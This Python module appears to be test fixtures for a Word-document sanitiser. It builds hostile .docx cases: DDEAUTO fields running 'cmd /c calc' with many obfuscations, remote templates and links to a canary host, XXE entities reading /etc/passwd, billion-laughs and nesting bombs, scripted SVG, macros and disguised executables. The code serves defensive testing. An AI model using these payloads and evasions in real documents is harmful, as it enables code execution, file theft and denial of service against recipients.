"""What a hostile Word file holds: links outside, macros, files inside, fields that fetch, false pictures, bombs of XML."""

from __future__ import annotations

from collections.abc import Callable, Mapping

from tests.attacks.made import (
    BODY,
    CORE,
    DECLARATION,
    LINKS,
    MANIFEST,
    NAMES,
    PLAIN,
    RELATIONS,
    TYPES,
    document,
    folder,
    header,
    link,
    links,
    members,
    notes,
    p,
    types,
    word,
    zipped,
)

Files = Mapping[str, bytes]
Builder = Callable[[], Files]

AWAY = "http://canary.invalid/a"
BEGIN, SEPARATE, END = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end"))


def code(*pieces: str) -> str:
    """Returns the code of a field, cut over runs."""
    return "".join(f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in pieces)


def field(*pieces: str) -> str:
    """Returns a paragraph with a field, its code cut over runs."""
    return f"<w:p>{BEGIN}{code(*pieces)}{SEPARATE}<w:r><w:t>x</w:t></w:r>{END}</w:p>"


def quoted(name: str) -> str:
    """Returns a field that spells a name by the numbers of its letters."""
    return f"{BEGIN}{code('QUOTE ' + ' '.join(str(ord(letter)) for letter in name))}{END}"


_SCRIPT = "&quot;cmd&quot; &quot;/c calc&quot;"
FIELDS: Mapping[str, str] = {
    "DDEAUTO": field(f" DDEAUTO {_SCRIPT} "),
    "DDE": field(f" DDE {_SCRIPT} "),
    "dde in small letters": field(f" dDeAuTo {_SCRIPT} "),
    "DDE over runs": field("D", "D", "E", "AUTO c"),
    "DDE over paragraphs": f"<w:p>{BEGIN}{code('DDE')}</w:p><w:p>{code('AUTO c')}{END}</w:p>",
    "DDE in a table over cells": f"<w:tbl><w:tr><w:tc><w:p>{BEGIN}{code('DD')}</w:p></w:tc><w:tc><w:p>{code('E c')}{END}</w:p></w:tc>"
                                 "</w:tr></w:tbl>",
    "DDE behind another field": f"<w:p>{BEGIN}{code('PAGE')}{END}{BEGIN}{code('DDE c')}{END}</w:p>",
    "DDE in another field": f"<w:p>{BEGIN}{code('IF 1 = 1 ')}{BEGIN}{code('DDE c')}{END}{END}</w:p>",
    "DDE spelt by QUOTE": f"<w:p>{BEGIN}{quoted('DDEAUTO')}{code(' c')}{END}</w:p>",
    "DDE half spelt by QUOTE": f"<w:p>{BEGIN}{code('DDE')}{quoted('AUTO')}{code(' c')}{END}</w:p>",
    "DDE spelt by a field of a variable": f"<w:p>{BEGIN}{BEGIN}{code('DOCVARIABLE x')}{END}{code(' c')}{END}</w:p>",
    "DDE spelt by a bookmark": f"<w:p>{BEGIN}{BEGIN}{code('REF x')}{END}{code(' c')}{END}</w:p>",
    "DDE spelt by SET": f"<w:p>{BEGIN}{code('SET x ')}{quoted('DDEAUTO c')}{END}</w:p>",
    "DDE in deleted code": f"<w:p>{BEGIN}<w:r><w:delInstrText>DDE c</w:delInstrText></w:r>{END}</w:p>",
    "DDE without an end": f"<w:p>{BEGIN}{code('DDE c')}</w:p>",
    "DDE without a beginning": f"<w:p>{code('DDE c')}{END}</w:p>",
    "DDE behind spaces of Unicode": field("\u00a0\u2003DDE c"),
    "DDE behind a mark of direction": field("\u200f\u202eDDE c"),
    "DDE behind a tab": f"<w:p>{BEGIN}<w:r><w:tab/><w:instrText>DDE c</w:instrText></w:r>{END}</w:p>",
    "DDE with an entity for a letter": field(" &#68;DE c"),
    "DDE in a simple field": '<w:p><w:fldSimple w:instr=" DDE c "/></w:p>',
    "DDE in letters of full width": field("ＤＤＥＡＵＴＯ c"),
    "INCLUDEPICTURE": field(f"INCLUDEPICTURE &quot;{AWAY}&quot; \\d"),
    "INCLUDEPICTURE over runs": field("INCLUDE", "PICTURE ", AWAY),
    "INCLUDEPICTURE in a simple field": f'<w:p><w:fldSimple w:instr="INCLUDEPICTURE {AWAY}"/></w:p>',
    "INCLUDETEXT": field("INCLUDETEXT c:\\\\secret.docx"),
    "INCLUDE": field("INCLUDE c:\\\\secret.docx"),
    "IMPORT": field("IMPORT c:\\\\x.gif"),
    "LINK": field("LINK Excel.Sheet.12 x.xlsx a1"),
    "EMBED": field("EMBED Package"),
    "DATABASE": field("DATABASE \\d x.mdb"),
    "RD": field("RD c:\\\\x.docx"),
    "MACROBUTTON": field("MACROBUTTON Run press"),
    "GOTOBUTTON": field("GOTOBUTTON x y"),
    "HYPERLINK outside": field(f"HYPERLINK &quot;{AWAY}&quot;"),
    "HYPERLINK with a target first": field(f"HYPERLINK \\t _blank &quot;{AWAY}&quot;"),
    "HYPERLINK to a file beside a place": field(f"HYPERLINK \\l x &quot;{AWAY}&quot;"),
    "HYPERLINK whose address another field makes": f"<w:p>{BEGIN}{code('HYPERLINK ')}{quoted(AWAY)}{END}</w:p>",
    "MERGEFIELD": field("MERGEFIELD name"),
    "NEXT": field("NEXT"),
    "FILLIN": field("FILLIN &quot;Mật khẩu?&quot;"),
    "ASK": field("ASK x &quot;Mật khẩu?&quot;"),
    "AUTOTEXT": field("AUTOTEXT x"),
    "AUTOTEXTLIST": field("AUTOTEXTLIST x"),
    "PRINT": field("PRINT 27"),
    "USERNAME": field("USERNAME"),
    "FILENAME with the path": field("FILENAME \\p"),
    "INFO": field("INFO"),
    "PRIVATE": field("PRIVATE x"),
    "ADDIN": field("ADDIN x"),
    "HTMLCONTROL": field("HTMLActiveX x"),
    "BARCODE": field("DISPLAYBARCODE x QR"),
    "a field that nobody knows": field("EVIL x"),
    "a field whose code is of numbers alone": field("\\x44\\x44E"),
    "a tag in a code": field("{{ matter }} c"),
    "half a name by a tag": field("{% if matter %}DDE{% endif %}AUTO c"),
}  # fmt: skip


def _body(xml: str) -> Builder:
    return lambda: folder(word(xml))


def _linked(kind: str, target: str = AWAY, mode: str = ' TargetMode="External"', body: str = PLAIN) -> Builder:
    return lambda: folder(word(body, links=links(*RELATIONS, link(kind, target, mode=mode))))


def _held(name: str, data: bytes = b"x", *more: str, body: str = PLAIN) -> Builder:
    return lambda: folder(word(body, {name: data}, links=links(*RELATIONS, *more)))


def _blip(kind: str) -> str:
    return (
        '<w:p><w:r><w:drawing><wp:inline><wp:extent cx="1" cy="1"/><wp:docPr id="1" name="x"/><a:graphic><a:graphicData>'
        f'<pic:pic><pic:blipFill><a:blip r:{kind}="rId9"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline>'
        "</w:drawing></w:r></w:p>"
    )


_SVG = '<svg xmlns="http://www.w3.org/2000/svg"{}>{}</svg>'
_KINDS = "http://schemas.microsoft.com/office"

LINKED: Mapping[str, Builder] = {
    "an attached template": lambda: folder(word(PLAIN, {
        "word/settings.xml": f'{DECLARATION}<w:settings {NAMES}><w:attachedTemplate r:id="rId1"/></w:settings>'.encode(),
        "word/_rels/settings.xml.rels": links(link("attachedTemplate", AWAY, "rId1")).encode()})),
    "a picture of another place": _linked("image", body=PLAIN + _blip("link")),
    "an embedded picture of another place": _linked("image", body=PLAIN + _blip("embed")),
    "a picture of another place without the mode": _linked("image", mode=""),
    "a picture behind two slashes": _linked("image", "//canary.invalid/a", ""),
    "a picture behind two back slashes": _linked("image", "\\\\canary.invalid\\a", ""),
    "a picture of a file": _linked("image", "file:///etc/passwd"),
    "a picture in data": _linked("image", "data:image/png;base64,AAAA", ""),
    "a picture linked inside": _linked("image", "media/x.png", "", PLAIN + _blip("link")),
    "a hyperlink": _linked("hyperlink"),
    "a hyperlink that a picture follows": _linked("hyperlink", body=PLAIN + _blip("link")),
    "a hyperlink to a script": _linked("hyperlink", "javascript:alert(1)"),
    "a mail": _linked("hyperlink", "mailto:a@canary.invalid"),
    "a frame": _linked("frame"),
    "an OLE object of another place": _linked("oleObject"),
    "a subdocument": _linked("subDocument", "x.docx"),
    "a subdocument inside": _linked("subDocument", "x.docx", ""),
    "a chunk of another place": _linked("aFChunk"),
    "a film": _linked("video"),
    "a sound": _linked("audio"),
    "a source of letters to merge": _linked("mailMergeSource"),
    "a schema of another place": _linked("customXml"),
    "a kind that nobody knows": _linked("x:evil"),
    "a style sheet of another place": _linked("xslt"),
    "an address in large letters": _linked("image", "HTTP://CANARY.INVALID/a", ""),
    "an address with a line break": _linked("image", "ht&#10;tp://canary.invalid/a", ""),
    "an address in a mode of small letters": _linked("image", "canary.invalid/a", ' TargetMode="external"'),
    "a link of the header": lambda: folder(word(PLAIN, {"word/_rels/header1.xml.rels": links(link("image", AWAY)).encode()})),
    "a link of the package": lambda: folder(word(PLAIN, {"docProps/_rels/core.xml.rels": links(link("image", AWAY)).encode()})),
    "a link in another code": lambda: folder(word(PLAIN, {
        "word/_rels/header1.xml.rels": links(link("image", AWAY)).replace("UTF-8", "UTF-16").encode("utf-16")})),
    "links under a name in large letters": lambda: folder(word(PLAIN, {"word/_RELS/header1.xml.RELS": links(link("image", AWAY)).encode()})),
    "a picture of a shape": _body('<w:p><w:r><w:pict><v:shape><v:imagedata src="http://canary.invalid/a"/></v:shape></w:pict></w:r></w:p>'),
    "a filling of a shape": _body('<w:p><w:r><w:pict><v:shape><v:fill src="http://canary.invalid/a"/></v:shape></w:pict></w:r></w:p>'),
    "a line of a shape": _body('<w:p><w:r><w:pict><v:shape><v:stroke o:althref="http://canary.invalid/a"/></v:shape></w:pict></w:r></w:p>'),
    "a shape that is a link": _body('<w:p><w:r><w:pict><v:shape href="http://canary.invalid/a"/></w:pict></w:r></w:p>'),
    "a drawing in letters that takes a file": _held("word/media/a.png", _SVG.format("", '<image href="file:///etc/passwd"/>').encode()),
    "a drawing that runs": _held("word/media/a.svg", _SVG.format("", "<script>x</script>").encode()),
    "a drawing that runs when it is loaded": _held("word/media/a.svg", _SVG.format(' onload="x()"', "").encode()),
    "a drawing with a style sheet": _held("word/media/a.svg", _SVG.format("", "<style>@import url(http://canary.invalid/a)</style>").encode()),
    "a drawing that fills from elsewhere": _held("word/media/a.svg", _SVG.format("", '<rect fill="url(http://canary.invalid/a#b)"/>').encode()),
    "a drawing with a style sheet before it": _held(
        "word/media/a.svg", b'<?xml-stylesheet href="http://canary.invalid/a"?>' + _SVG.format("", "").encode()),
}  # fmt: skip

HELD: Mapping[str, Builder] = {
    "macros": _held("word/vbaProject.bin"),
    "macros under another name": lambda: folder(word(PLAIN, {"word/x.bin": b"x"}, types=types(
        '<Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.vbaProject"/>'))),
    "macros by their relation": _held("word/x.bin", b"x", link(f"{_KINDS}/2006/relationships/vbaProject", "x.bin", mode="")),
    "data of macros": _held("word/vbaData.xml", b"<a/>"),
    "key maps": lambda: folder(word(PLAIN, {"word/customizations.xml": b"<a/>"}, links=links(
        *RELATIONS, link(f"{_KINDS}/2006/relationships/keyMapCustomizations", "customizations.xml", mode="")))),
    "a file with macros by its type": lambda: folder(word(types=types().replace(
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "application/vnd.ms-word.document.macroEnabled.main+xml"))),
    "a template with macros by its type": lambda: folder(word(types=types().replace(
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "application/vnd.ms-word.template.macroEnabledTemplate.main+xml"))),
    "ActiveX": _held("word/activeX/activeX1.xml", b"<a/>"),
    "ActiveX under another name": _held("word/x.xml", b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>'),
    "a control": _body('<w:p><w:r><w:object><w:control r:id="rId9" w:name="x"/></w:object></w:r></w:p>'),
    "an OLE object": _held("word/embeddings/oleObject1.bin"),
    "an OLE object under another name": _held("word/media/a.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)),
    "an OLE object as a picture": _held("word/media/a.png", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)),
    "an OLE object by its element": _body('<w:p><w:r><w:object><o:OLEObject Type="Link" ProgID="x" r:id="rId9"/></w:object></w:r></w:p>'),
    "a workbook inside": _held("word/embeddings/a.xlsx", zipped({"a": b"x"})),
    "a package as a picture": _held("word/media/a.png", zipped({"a": b"x"})),
    "a program inside": _held("word/media/a.png", b"MZ" + bytes(600)),
    "a program of Linux inside": _held("word/media/a.bin", b"\x7fELF" + bytes(600)),
    "a script inside": _held("word/media/a.bin", b"#!/bin/sh\nid\n"),
    "a PDF inside": _held("word/media/a.bin", b"%PDF-1.7\n"),
    "RTF inside": _held("word/a.rtf", b"{\\rtf1 x}"),
    "a web page inside": _held("word/a.html", b"<html><body>x</body></html>"),
    "a mail inside": _held("word/a.mht", b"MIME-Version: 1.0\r\n\r\nx"),
    "PostScript as a picture": _held("word/media/a.eps", b"%!PS-Adobe-3.0 EPSF-3.0\n"),
    "a packed metafile": _held("word/media/a.emz", b"\x1f\x8b\x08\x00x"),
    "a shortcut inside": _held("word/media/a.lnk", b"L\0\0\0\x01\x14\x02\0" + bytes(60)),
    "a chunk": lambda: folder(word(PLAIN + '<w:altChunk r:id="rId9"/>', {"word/a.txt": b"x"}, links=links(
        *RELATIONS, link("aFChunk", "a.txt", mode="")))),
    "a chunk in a header": lambda: folder(word(header=header(p("x") + '<w:altChunk r:id="rId9"/>'))),
    "a subdocument by its element": _body('<w:subDoc r:id="rId9"/>' + PLAIN),
    "a ribbon of one's own": lambda: folder(word(PLAIN, {"customUI/customUI.xml": b'<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui"/>'})),
    "a ribbon of one's own of 2010": lambda: folder(word(PLAIN, {"customUI/customUI14.xml": b'<customUI xmlns="http://schemas.microsoft.com/office/2009/07/customui"/>'})),
    "a ribbon under another name": lambda: folder(word(PLAIN, {"word/x.xml": b'<customUI xmlns="http://schemas.microsoft.com/office/2009/07/customui"/>'})),
    "attached tool bars": _held("word/attachedToolbars.bin"),
    "a web extension": lambda: folder(word(PLAIN, {"word/webextensions/webextension1.xml": b'<we:webextension xmlns:we="http://schemas.microsoft.com/office/webextensions/webextension/2010/11"/>'})),
    "a pane of a web extension": lambda: folder(word(PLAIN, {"word/x.xml": b'<wetp:taskpanes xmlns:wetp="http://schemas.microsoft.com/office/webextensions/taskpanes/2010/11"/>'})),
    "a source to merge": lambda: folder(word(PLAIN, {"word/settings.xml": f'<w:settings {NAMES}><w:mailMerge><w:query w:val="SELECT"/></w:mailMerge></w:settings>'.encode()})),
    "a frame set": lambda: folder(word(PLAIN, {"word/webSettings.xml": f'<w:webSettings {NAMES}><w:frameset><w:frame><w:sourceFileName r:id="rId1"/></w:frame></w:frameset></w:webSettings>'.encode()})),
}  # fmt: skip


def _doctype(before: str, after: str = "", *, coding: str = "utf-8", part: str = "word/styles.xml") -> Builder:
    xml = f"{before}<w:styles {NAMES}>{after}</w:styles>"
    return lambda: folder(zipped({**members(), part: xml.encode(coding)}))


_LAUGHS = '<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
_UTF16 = '<?xml version="1.0" encoding="UTF-16"?>'
_TEMPLATE = document(PLAIN)
XML: Mapping[str, Builder] = {
    "a DOCTYPE": _doctype("<!DOCTYPE a>"),
    "a DOCTYPE in the body": lambda: folder(zipped({**members(), BODY: ("<!DOCTYPE a>" + _TEMPLATE.removeprefix(DECLARATION)).encode()})),
    "a DOCTYPE in the types": lambda: folder(word(types="<!DOCTYPE a>" + types().removeprefix(DECLARATION))),
    "a DOCTYPE in the links": lambda: folder(word(links="<!DOCTYPE a>" + links(*RELATIONS).removeprefix(DECLARATION))),
    "a DOCTYPE in the properties": lambda: folder(zipped({**members(), CORE: b"<!DOCTYPE a>" + members()[CORE].removeprefix(DECLARATION.encode())})),
    "laughs": _doctype(_LAUGHS, "&b;"),
    "an entity of a file": _doctype('<!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/passwd">]>', "&a;"),
    "an entity of the network": _doctype(f'<!DOCTYPE a [<!ENTITY a SYSTEM "{AWAY}">]>', "&a;"),
    "an entity of parameters": _doctype(f'<!DOCTYPE a [<!ENTITY % a SYSTEM "{AWAY}"> %a;]>'),
    "a DTD of the network": _doctype(f'<!DOCTYPE a SYSTEM "{AWAY}">'),
    "a public DTD": _doctype(f'<!DOCTYPE a PUBLIC "-//W3C//DTD" "{AWAY}">'),
    "a DOCTYPE in UTF-16": _doctype(_UTF16 + _LAUGHS, "&b;", coding="utf-16"),
    "a DOCTYPE in UTF-16 without a mark": _doctype(_UTF16.replace("UTF-16", "UTF-16LE") + _LAUGHS, "&b;", coding="utf-16-le"),
    "a DOCTYPE in UTF-16, large end first": _doctype(_UTF16.replace("UTF-16", "UTF-16BE") + _LAUGHS, "&b;", coding="utf-16-be"),
    "a DOCTYPE in UTF-32": _doctype(_UTF16.replace("16", "32") + _LAUGHS, "&b;", coding="utf-32"),
    "a DOCTYPE in UTF-7": _doctype(_UTF16.replace("16", "7") + "+ADwAIQ-DOCTYPE a+AD4-"),
    "a DOCTYPE in the code of EBCDIC": _doctype('<?xml version="1.0" encoding="cp037"?>' + _LAUGHS, "&b;", coding="cp037"),
    "a DOCTYPE behind a comment": _doctype("<!-- x --><?x y?>" + _LAUGHS, "&b;"),
    "a DOCTYPE in a part of one's own": lambda: folder(word(PLAIN, {"customXml/item1.xml": (_LAUGHS + "<a>&b;</a>").encode()})),
    "a DOCTYPE in a picture": lambda: folder(word(PLAIN, {"word/media/a.png": (_LAUGHS + "<svg>&b;</svg>").encode()})),
    "a DOCTYPE in a member without a kind": lambda: folder(word(PLAIN, {"word/x": (_LAUGHS + "<a>&b;</a>").encode()})),
    "three hundred levels": _body("<w:sdt>" * 300 + "</w:sdt>" * 300),
    "a hundred thousand levels": _body("<w:sdt>" * 100_000 + "</w:sdt>" * 100_000),
    "three hundred levels of one's own part": lambda: folder(word(PLAIN, {"customXml/item1.xml": b"<a>" * 300 + b"</a>" * 300})),
    "a part of thirty-three MiB": lambda: folder(word(PLAIN, {"customXml/item1.xml": b"<a>" + b" " * (33 * 2**20) + b"</a>"})),
    "three million tags": lambda: folder(word(PLAIN, {"customXml/item1.xml": b"<a>" + b"<b/>" * 3_000_001 + b"</a>"})),
    "a hundred thousand attributes": _body("<w:p " + " ".join(f'w:a{n}=""' for n in range(100_000)) + "/>"),
    "a hundred thousand names": _body("<w:p " + " ".join(f'xmlns:a{n}="u{n}"' for n in range(100_000)) + "/>"),
    "an attribute of three MiB": _body(f'<w:p w:rsidR="{"x" * (3 * 2**20)}"/>'),
    "an entity that nobody declared": _body(p("&evil;")),
    "an element that is not closed": _body("<w:p>"),
    "two attributes of one name": _body('<w:p w:a="1" w:a="2"/>'),
    "a letter that XML knows not": _body(p("\x01")),
    "a letter by a number that XML knows not": _body(p("&#0;")),
    "half of a pair by its number": _body(p("&#xD800;")),
    "bytes that are no text": lambda: folder(word(header=b"<w:hdr>\xff\xfe\xfd</w:hdr>")),
    "a body without a root": lambda: folder(zipped({**members(), BODY: b""})),
    "a body that is another kind": lambda: folder(zipped({**members(), BODY: b"<html/>"})),
    "no body": lambda: folder(zipped({name: data for name, data in members().items() if name != BODY})),
    "no types": lambda: folder(zipped({name: data for name, data in members().items() if name != TYPES})),
    "no links": lambda: folder(zipped({**{name: data for name, data in members().items() if name != LINKS}, "word/a.bin": b"MZ"})),
    "two thousand headers": lambda: folder(zipped({**members(), **{f"word/h{n}.xml": header(p("x" * 99)).encode() for n in range(2_000)}})),
    "rich notes that are none": lambda: folder(word(notes=notes("<w:p>" * 400 + "</w:p>" * 400))),
}  # fmt: skip


def _coded(xml: str) -> Builder:
    return lambda: folder(word(xml), MANIFEST)


CASES: Mapping[str, Builder] = {
    **{f"field {name}": _coded(PLAIN + xml) for name, xml in FIELDS.items()},
    **{f"link {name}": make for name, make in LINKED.items()},
    **{f"holds {name}": make for name, make in HELD.items()},
    **{f"xml {name}": make for name, make in XML.items()},
}
